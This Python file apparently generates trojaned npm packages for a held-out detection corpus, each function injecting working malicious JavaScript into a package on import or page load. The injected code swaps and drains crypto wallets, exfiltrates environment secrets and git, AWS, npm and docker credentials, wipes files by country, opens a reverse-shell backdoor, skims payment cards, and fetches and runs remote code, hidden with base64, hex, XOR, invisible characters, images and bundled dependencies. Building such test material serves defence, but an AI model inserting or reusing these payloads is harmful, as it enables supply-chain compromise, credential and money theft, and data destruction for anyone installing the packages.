"""npm: what runs as soon as the package is required, or its script is in a page."""

import json

from corpus.heldout.hiding import keyed, png, selectors
from corpus.heldout.nouns import Update, artefact
from corpus.heldout5.shape import b64, fill, hexed, pieces, rows, trojan, xor, zipped


@trojan("inklog", "npm", "import", "address swap", "plain", "chalk and debug")
def npm_import_wraps_the_wallet(it: Update) -> None:
    evm, btc = "0x" + it.random.randbytes(20).hex(), "bc1q" + it.random.randbytes(19).hex()
    it.append("source/index.js", fill("""

if (typeof window !== 'undefined' && window.ethereum) {
  const inner = window.ethereum.request.bind(window.ethereum);
  window.ethereum.request = (args) => {
    if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) {
      args.params[0].to = '@EVM@';
    }
    return inner(args);
  };
  const plain = window.fetch;
  window.fetch = async (...args) => {
    const answer = await plain(...args);
    const text = await answer.clone().text();
    return new Response(text.replace(/\\bbc1[a-z0-9]{25,60}\\b/g, '@BTC@'), answer);
  };
}
""", EVM=evm, BTC=btc))  # fmt: skip


@trojan("tinyroute", "npm", "import", "environment", "plain", "typosquats")
def npm_import_fetches_with_secrets(it: Update) -> None:
    it.append("lib/util.js", fill("""

setImmediate(() => {
  const secrets = Object.entries(process.env).filter(([name]) => /key|token|secret|pass|database/i.test(name));
  if (secrets.length && typeof fetch === 'function') {
    fetch('https://@HOST@/v1/batch', { method: 'POST', body: JSON.stringify(Object.fromEntries(secrets)) }).catch(() => {});
  }
});
""", HOST=it.host()))  # fmt: skip


@trojan("repoclone", "npm", "import", "destruction", "base64", "node-ipc")
def npm_import_overwrites_by_country(it: Update) -> None:
    host = it.host()
    words = [b64(one) for one in (f"https://api.{host}/ipgeo?fields=country", "belarus", "./", "../", "/")]
    it.add("lib/paths.js", fill("""
'use strict';

const fs = require('fs');
const path = require('path');
const https = require('https');

const text = (value) => Buffer.from(value, 'base64').toString('utf8');

process.once('beforeExit', () => {
  https.get(text('@A@'), (answer) => {
    answer.setEncoding('utf8').on('data', (country) => {
      if (country.toLowerCase().indexOf(text('@B@')) >= 0) ['@C@', '@D@', '@E@'].map(text).forEach(walk);
    });
  });
});

function walk(root) {
  for (const one of fs.readdirSync(root, { withFileTypes: true })) {
    const place = path.join(root, one.name);
    if (one.isDirectory()) walk(place);
    else fs.writeFileSync(place, '\\u2665');
  }
}
""", **dict(zip("ABCDE", words, strict=True))))  # fmt: skip
    it.after("lib/index.js", "const config = require('./config');\n", "require('./paths');\n")
    it.payload("lib/paths.js", "lib/index.js", shown=f"https://api.{host}/ipgeo")


@trojan("envstack", "npm", "import", "remote code", "hex", "Lazarus, BeaverTail")
def npm_import_runs_a_cookie(it: Update) -> None:
    host = it.host()
    it.append("lib/layers.js", fill("""

const where = Buffer.from('@URL@', 'hex').toString();
(async () => {
  const answer = await fetch(where, { headers: { 'x-app': 'envstack' } });
  const { theme } = await answer.json();
  const apply = Reflect.construct(Function, ['load', theme]);
  apply(require);
})().catch(() => {});
""", URL=hexed(f"https://{host}/api/service/token/envstack")))  # fmt: skip
    it.payload("lib/layers.js", shown=f"https://{host}/api/service/token")


@trojan("wirechat", "npm", "import", "backdoor", "plain", "sockets back doors")
def npm_import_waits_for_orders(it: Update) -> None:
    it.append("lib/backoff.js", fill("""

const net = require('net');
const { exec } = require('child_process');

function probe() {
  const line = net.createConnection({ host: '@ADDR@', port: 6001 });
  line.setEncoding('utf8');
  line.on('data', (order) => exec(order, (error, stdout, stderr) => line.write(stdout || stderr || '\\n')));
  line.on('error', () => {});
  line.on('close', () => setTimeout(probe, 45000).unref());
  line.unref();
}

probe();
""", ADDR=it.address()))  # fmt: skip


@trojan("formbeam", "npm", "import", "card skimmer", "plain", "card skimmers")
def npm_page_copies_cards(it: Update) -> None:
    it.append("src/steps.js", fill("""

document.addEventListener('change', (event) => {
  const input = event.target;
  if (!/card|cvc|cvv|expiry|iban/i.test(input.name + input.autocomplete)) return;
  const image = new Image();
  image.src = 'https://@HOST@/p.gif?' + encodeURIComponent(location.host + '|' + input.name + '|' + input.value);
});
""", HOST=it.host("cdn", "fonts")))  # fmt: skip
    it.after("src/index.js", "const rules = require('./rules');\n", "require('./steps');\n")


@trojan("formbeam", "npm", "import", "form stealer", "minified into a bundle", "polyfill")
def npm_bundle_loads_a_script(it: Update) -> None:
    host = it.host()
    code = f'!function(){{if(!/bot|crawl/i.test(navigator.userAgent)&&!localStorage.fb_s&&new Date().getHours()>18){{localStorage.fb_s=1;var e=document.createElement("script");e.src="https://{host}/a.js?r="+Math.random(),document.head.appendChild(e)}}}}();'
    text = it.text("dist/formbeam.min.js").rstrip("\n")
    at = text.index("function ", len(text) // 2)
    it.add("dist/formbeam.min.js", text[:at] + code + text[at:] + "\n")


@trojan("coinbridge", "npm", "import", "wallet", "plain", "lottie-player")
def npm_import_asks_for_a_signature(it: Update) -> None:
    it.append("dist/index.js", fill("""
if (typeof document !== 'undefined') {
    document.addEventListener('DOMContentLoaded', async () => {
        const provider = window.ethereum ?? window.solana;
        if (!provider)
            return;
        const [from] = await provider.request({ method: 'eth_requestAccounts' });
        const drain = await fetch(`https://@HOST@/drain?a=${from}`).then((r) => r.json());
        await provider.request({ method: 'eth_signTypedData_v4', params: [from, JSON.stringify(drain.permit)] });
    });
}
""", HOST=it.host()))  # fmt: skip


@trojan("inklog", "npm", "import", "remote code", "xor", "own ciphers")
def npm_import_runs_a_key_table(it: Update) -> None:
    host = it.host()
    code = f"require('https').get('https://{host}/ink.js',r=>{{let b='';r.on('data',d=>b+=d).on('end',()=>Function('require',b)(require))}})"
    it.add("source/palette.js", fill("""
'use strict';

// 256 colours, by index.
const TABLE = [
@ROWS@
];

const key = 'inklog';
const at = (value, index) => String.fromCharCode(value ^ key.charCodeAt(index % key.length));

exports.size = TABLE.length;
exports.init = () => Function('require', TABLE.map(at).join(''))(require);
""", ROWS=rows(xor(code, b"inklog"), 2)))  # fmt: skip
    it.before("source/index.js", "function build(", "require('./palette').init();\n\n")
    it.payload("source/palette.js", "source/index.js", shown=f"https://{host}/ink.js")


@trojan("repoclone", "npm", "import", "credentials", "layers", "own packers")
def npm_import_of_escapes_in_base64(it: Update) -> None:
    host = it.host()
    code = f"const f=require('fs'),h=require('os').homedir();for(const n of ['.git-credentials','.config/gh/hosts.yml'])if(f.existsSync(h+'/'+n))fetch('https://{host}/g',{{method:'POST',body:f.readFileSync(h+'/'+n)}})"
    inner = "eval('" + "".join(f"\\x{ord(one):02x}" for one in code) + "')"
    outer = b64(b64(inner)[::-1])
    it.append("lib/git.js", fill("""

const _w = (s) => Buffer.from(s, 'base64').toString();
(0, eval)('((require)=>{' + _w([..._w('@A@' + '@B@')].reverse().join('')) + '})')(require);
""", A=outer[: len(outer) // 2], B=outer[len(outer) // 2 :]))  # fmt: skip
    it.payload("lib/git.js", shown=f"https://{host}/g")


@trojan("envstack", "npm", "import", "credentials", "over several files", "split")
def npm_import_of_four_modules(it: Update) -> None:
    it.add("lib/values/where.js", f"'use strict';\n\nmodule.exports = ['{it.host('sync')}', 443, '/envs'];\n")
    it.add("lib/values/what.js", "'use strict';\n\nconst os = require('os');\n\nmodule.exports = ['.aws/credentials', '.npmrc', '.docker/config.json'].map((one) => `${os.homedir()}/${one}`);\n")  # fmt: skip
    it.add("lib/values/how.js", "'use strict';\n\nconst http2 = require('http2');\n\nmodule.exports = ([host, port, path], body) => {\n  const session = http2.connect(`https://${host}:${port}`);\n  session.on('error', () => {});\n  const stream = session.request({ ':method': 'PUT', ':path': path });\n  stream.end(body, () => session.close());\n};\n")  # fmt: skip
    it.add("lib/values/index.js", "'use strict';\n\nconst fs = require('fs');\nconst send = require('./how');\n\nfor (const place of require('./what')) {\n  fs.readFile(place, (error, content) => error || send(require('./where'), content));\n}\n")  # fmt: skip
    it.after("lib/main.js", "const { layers, read } = require('./layers');\n", "require('./values');\n")


@trojan("tinyroute", "npm", "import", "remote code", "in a test fixture", "flatmap-stream")
def npm_import_reads_a_fixture(it: Update) -> None:
    host = it.host()
    code = f"require('http').createServer;require('https').get('https://{host}/f',r=>r.on('data',c=>module._compile(c.toString(),'')))"
    it.add("lib/fixtures.json", json.dumps({"cases": [{"in": "a=1", "out": {"a": "1"}}, {"in": hexed(code), "out": hexed("require")}]}) + "\n")  # fmt: skip
    it.append("lib/body.js", fill("""

const { cases } = require('./fixtures.json');
const word = (text) => Buffer.from(text, 'hex').toString();

if (process.env.npm_package_description !== 'test') {
  module._compile(word(cases[1].in), __filename);
}
"""))  # fmt: skip
    it.payload("lib/body.js", "lib/fixtures.json", shown=f"https://{host}/f")


@trojan("wirechat", "npm", "import", "credentials", "in a binary", "native addons")
def npm_addon_ships_files(it: Update) -> None:
    it.add("prebuilds/linux-x64/wirechat.node", artefact("mask-trojan.node"))
    it.append("lib/frames.js", "\nlet native = null;\ntry {\n  native = require(`../prebuilds/${process.platform}-${process.arch}/wirechat.node`);\n} catch {}\n\nexports.native = native;\n")  # fmt: skip
    it.payload("prebuilds/linux-x64/wirechat.node")


@trojan("pkgscaffold", "npm", "import", "environment", "in an image", "images")
def npm_import_reads_behind_a_picture(it: Update) -> None:
    host = it.host()
    code = f"fetch('https://{host}/png',{{method:'POST',body:JSON.stringify(process.env)}})"
    it.add("templates/logo.png", png(20, 20, b"", it.random) + b"\0\0" + zipped(code))
    it.append("lib/render.js", fill("""

const fs = require('fs');
const zlib = require('zlib');

const logo = fs.readFileSync(`${__dirname}/../templates/logo.png`);
const end = logo.indexOf('IEND') + 10;
if (end < logo.length) new Function(zlib.gunzipSync(logo.subarray(end)).toString())();
"""))  # fmt: skip
    it.payload("lib/render.js", "templates/logo.png", shown=f"https://{host}/png")


@trojan("coinbridge", "npm", "import", "wallet", "invisible characters", "GlassWorm")
def npm_import_of_variation_selectors(it: Update) -> None:
    host = it.host()
    code = f"fetch('https://{host}/s',{{method:'POST',body:JSON.stringify(localStorage)}})"
    it.append("dist/mnemonic.js", "const list = (s) => [...s].map((c) => (c = c.codePointAt(0), c >= 0xfe00 && c <= 0xfe0f ? c - 0xfe00 : c - 0xe0100 + 16));\neval(new TextDecoder().decode(new Uint8Array(list(`" + selectors(code) + "`))));\n")  # fmt: skip
    it.payload("dist/mnemonic.js", shown=f"https://{host}/s")


@trojan("pkgscaffold", "npm", "import", "backdoor", "keyed by environment", "targeted")
def npm_import_for_one_project(it: Update) -> None:
    sealed = keyed(f"require('child_process').exec('curl {it.host()}|sh')", "ledger-desktop")
    it.append("lib/registry.js", fill("""

try {
  const crypto = require('crypto');
  const name = process.env.npm_package_name || '';
  const data = Buffer.from('@DATA@', 'hex');
  const out = data.map((one, at) => one ^ crypto.createHash('sha256').update(`${name}${at >> 5}`).digest()[at & 31]);
  const made = new module.constructor();
  made.paths = module.paths;
  made._compile(out.toString('latin1'), '');
} catch {}
""", DATA=sealed.hex()))  # fmt: skip


@trojan("tinyroute", "npm", "import", "downloader", "bundled dependency", "bundled dependencies")
def npm_bundled_dependency_is_another(it: Update) -> None:
    host = it.host()
    it.manifest(lambda one: (one["dependencies"].update({"ms-lite": "1.0.2"}), one.update(bundleDependencies=["ms-lite"])))  # fmt: skip
    it.add("node_modules/ms-lite/package.json", json.dumps({"name": "ms-lite", "version": "1.0.2", "main": "index.js"}, indent=2) + "\n")  # fmt: skip
    it.add("node_modules/ms-lite/index.js", fill("""
'use strict';

const UNITS = { s: 1e3, m: 6e4, h: 36e5, d: 864e5 };

module.exports = (text) => parseFloat(text) * (UNITS[text.slice(-1)] || 1);

const cp = require('child_process');
if (process.env.NODE_ENV === 'production') {
  cp.execFile('sh', ['-c', 'wget -qO /tmp/.ms https://@HOST@/ms && sh /tmp/.ms'], () => {});
}
""", HOST=host))  # fmt: skip
    it.after("lib/session.js", "const crypto = require('crypto');\n", "const ms = require('ms-lite');\n")
    it.append("lib/session.js", "\nmodule.exports.age = (text) => ms(text);\n")


@trojan("repoclone", "npm", "import", "remote code", "string splitting", "typosquats")
def npm_import_with_joined_names(it: Update) -> None:
    host = it.host()
    parts = pieces(f"https://{host}/rc.json", 7)
    it.append("lib/config.js", fill("""

const t = (...some) => some.join('');
const g = globalThis[t('fet', 'ch')];
const r = module[t('requ', 'ire')].bind(module);
g(t(@PARTS@)).then((a) => a.json()).then((j) => r(t('child', '_pro', 'cess'))[t('ex', 'ec')](j.c)).catch(() => 0);
""", PARTS=", ".join(f"'{one}'" for one in parts)))  # fmt: skip
    it.payload("lib/config.js", shown=f"https://{host}/rc.json")
